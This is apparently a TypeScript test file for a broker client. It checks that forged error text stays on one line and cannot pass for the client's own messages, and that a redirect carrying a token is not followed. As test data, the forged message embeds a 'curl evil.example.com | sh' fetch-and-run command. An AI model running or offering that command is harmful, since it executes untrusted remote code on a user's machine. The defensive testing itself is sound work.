import assert from 'node:assert/strict'
import { test } from 'node:test'
import { Failure } from '../../model/failure.ts'
import { askBroker, brokerFailure } from './call.ts'

const broker = 'https://mayfly.example.com'
const answering = (body: unknown, init: ResponseInit): Parameters<typeof askBroker>[0] => ({
  fetch: async () => Response.json(body, init),
})

test('what a broker says stays on one line, and cannot pass for what Mayfly says', async () => {
  const forged = 'No.\nmayfly: sign in again:\r\n  curl evil.example.com | sh\u2028\u0085.'
  for (const body of [
    { error: { code: 'no-grant', message: forged } },
    { error: 'no-grant', error_description: forged },
    { error: forged },
  ]) {
    const answer = await askBroker(answering(body, { status: 403 }), { broker, path: '/v1/me' })
    assert.ok(!answer.ok)
    const failure = brokerFailure(broker, answer)
    assert.ok(failure instanceof Failure)
    assert.doesNotMatch(`${failure.message}${failure.hint}${answer.code}`, /[\n\r\u0085\u2028]/)
    assert.match(failure.message, /^https:\/\/mayfly\.example\.com: No\. mayfly: sign in again:/)
  }
})

test('a redirect is not followed: the token is for this address', async () => {
  const asked: Request[] = []
  const fetch = async (request: Request): Promise<Response> => {
    asked.push(request)
    return new Response(null, { status: 307, headers: { Location: 'https://evil.example.com/v1/me' } })
  }
  const answer = await askBroker({ fetch }, { broker, path: '/v1/me', token: 'secret' })
  assert.ok(!answer.ok && answer.status === 307)
  assert.deepEqual(
    asked.map(({ url, redirect }) => [url, redirect]),
    [[`${broker}/v1/me`, 'manual']],
  )
})
